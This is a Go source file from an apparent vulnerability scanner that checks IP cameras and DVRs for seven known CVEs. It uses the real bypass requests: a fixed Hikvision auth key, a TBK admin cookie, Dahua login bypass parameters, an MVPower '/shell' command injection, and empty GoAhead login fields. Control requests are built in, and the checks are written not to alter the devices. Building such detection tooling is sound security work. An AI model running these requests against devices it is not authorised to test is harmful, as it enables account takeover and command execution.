package cve

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"math/big"
	"net/http"
	"regexp"
	"strings"
)

// flaw is one known flaw and its question. check reports whether the flaw is
// there, with a line of proof that gives nothing away.
type flaw struct {
	id, title string
	kev       bool // on CISA's list of known exploited vulnerabilities
	check     func(context.Context, *asker) (proof string, yes bool)
}

// flaws are those that can be asked for without changing anything.
func flaws() []flaw {
	return []flaw{
		{"CVE-2017-7921", "Hikvision: a fixed key opens the list of users", true, hikvisionUsers},
		{"CVE-2018-9995", "TBK and its brands: a cookie that names a user gives all passwords", false, tbkUsers},
		{"CVE-2020-25078", "D-Link DCS: the administrator's password is given to anybody", true, dlinkUser},
		{"CVE-2021-33044", "Dahua: a kind of client that needs no password", true, dahuaKeyboard},
		{"CVE-2021-33045", "Dahua: a login that claims to come from the device itself", true, dahuaLoopback},
		{"CVE-2016-20016", "MVPower and its brands: a shell behind a path", false, mvpowerShell},
		{"CVE-2017-8225", "GoAhead in unbranded cameras: empty login fields open the settings file", false, goaheadSettings},
	}
}

// hikvisionUsers: a query parameter with the name of a user opens what he may
// read; the list of users is the smallest of it.
func hikvisionUsers(ctx context.Context, w *asker) (string, bool) {
	const path, key = "/Security/users", "auth=YWRtaW46MTEK"
	n := func(r reply) int {
		var list struct {
			XMLName xml.Name
			Users   []struct {
				Name string `xml:"userName"`
			} `xml:"User"`
		}
		if r.status != http.StatusOK || xml.Unmarshal([]byte(r.body), &list) != nil || list.XMLName.Local != "UserList" {
			return 0
		}
		named := 0
		for _, u := range list.Users {
			if u.Name != "" {
				named++
			}
		}
		return named
	}
	users := n(w.get(ctx, path+"?"+key))
	if users == 0 || n(w.get(ctx, path)) > 0 || n(w.get(ctx, path+"?auth="+random())) > 0 || n(w.get(ctx, "/Security/"+random()+"?"+key)) > 0 {
		return "", false
	}
	return fmt.Sprintf("the list of %d users is given with the key, and refused without", users), true
}

// tbkUsers: the recorder believes a cookie.
func tbkUsers(ctx context.Context, w *asker) (string, bool) {
	const path = "/device.rsp?opt=user&cmd=list"
	n := func(r reply) int {
		var a struct {
			Result *int `json:"result"`
			List   []struct {
				User     string  `json:"uid"`
				Password *string `json:"pwd"`
			} `json:"list"`
		}
		if r.status != http.StatusOK || json.Unmarshal([]byte(r.body), &a) != nil {
			return 0
		}
		n := 0
		for _, u := range a.List {
			if u.User != "" && u.Password != nil {
				n++
			}
		}
		return n
	}
	users := n(w.get(ctx, path, "Cookie", "uid=admin"))
	if users == 0 || n(w.get(ctx, path)) > 0 || n(w.get(ctx, "/"+random()+".rsp?opt=user&cmd=list", "Cookie", "uid=admin")) > 0 {
		return "", false
	}
	return fmt.Sprintf("%d users with their passwords are given for a cookie, and refused without", users), true
}

// dlinkUser: a path outside the login.
func dlinkUser(ctx context.Context, w *asker) (string, bool) {
	form := regexp.MustCompile(`(?m)^name=\S+\s*\n(?:.*\n)*?pass=`)
	is := func(r reply) bool { return r.status == http.StatusOK && !r.page() && form.MatchString(r.body) }
	if !is(w.get(ctx, "/config/getuser?index=0")) || is(w.get(ctx, "/config/"+random()+"?index=0")) {
		return "", false
	}
	return "a user's name and password are given without a login", true
}

// dahua opens a session by params, and closes it again.
func dahua(ctx context.Context, w *asker, params map[string]any) bool {
	b, err := json.Marshal(map[string]any{"method": "global.login", "params": params, "id": 1, "session": 0})
	if err != nil {
		return false
	}
	r := w.do(ctx, http.MethodPost, "/RPC2_Login", string(b), "Content-Type", "application/json")
	var a struct {
		Result  *bool `json:"result"`
		Session any   `json:"session"`
	}
	if r.status != http.StatusOK || json.Unmarshal([]byte(r.body), &a) != nil || a.Result == nil || !*a.Result || a.Session == nil {
		return false
	}
	if b, err := json.Marshal(map[string]any{"method": "global.logout", "params": nil, "id": 2, "session": a.Session}); err == nil {
		w.do(ctx, http.MethodPost, "/RPC2", string(b), "Content-Type", "application/json")
	}
	return true
}

func dahuaProof(ctx context.Context, w *asker, params func(user string) map[string]any) (string, bool) {
	// The control is a user that is not there: it is no try at an account that is.
	if !dahua(ctx, w, params("admin")) || dahua(ctx, w, params(random())) {
		return "", false
	}
	return "a session was given to admin without a password, and refused to a user that does not exist; it was closed again", true
}

func dahuaKeyboard(ctx context.Context, w *asker) (string, bool) {
	return dahuaProof(ctx, w, func(user string) map[string]any {
		return map[string]any{"userName": user, "password": "Not Used", "clientType": "NetKeyboard", "loginType": "Direct", "authorityType": "Default", "passwordType": "Default"}
	})
}

func dahuaLoopback(ctx context.Context, w *asker) (string, bool) {
	return dahuaProof(ctx, w, func(user string) map[string]any {
		return map[string]any{"userName": user, "password": user, "clientType": "Local", "loginType": "Loopback", "ipAddr": "127.0.0.1", "authorityType": "Default", "passwordType": "Plain"}
	})
}

// mvpowerShell: the query is run. What is run is a multiplication, which no
// server that only repeats the question can do.
func mvpowerShell(ctx context.Context, w *asker) (string, bool) {
	a, b := factor(), factor()
	product := fmt.Sprint(a * b)
	query := fmt.Sprintf("?expr%%20%d%%20%%2A%%20%d", a, b)
	r := w.get(ctx, "/shell"+query)
	if r.status != http.StatusOK || strings.TrimSpace(r.body) != product || strings.Contains(w.get(ctx, "/"+random()+query).body, product) {
		return "", false
	}
	return "it computed a product of random numbers by a command in the address", true
}

// factor is a random number whose products expr of any width can hold.
func factor() int64 {
	n, err := rand.Int(rand.Reader, big.NewInt(30000))
	if err != nil {
		panic("cve: the system's random source failed: " + err.Error())
	}
	return n.Int64() + 10007
}

// goaheadSettings: the login compares with fields that are there and empty.
func goaheadSettings(ctx context.Context, w *asker) (string, bool) {
	const path, key = "/system.ini", "?loginuse&loginpas"
	is := func(r reply) bool { return r.status == http.StatusOK && len(r.body) > 64 && !r.page() }
	if !is(w.get(ctx, path+key)) || is(w.get(ctx, path)) || is(w.get(ctx, "/"+random()+".ini"+key)) {
		return "", false
	}
	refused := w.get(ctx, path).status
	if refused != http.StatusUnauthorized && refused != http.StatusForbidden {
		return "", false
	}
	return fmt.Sprintf("the settings file is given for empty login fields, and refused without them (HTTP %d)", refused), true
}
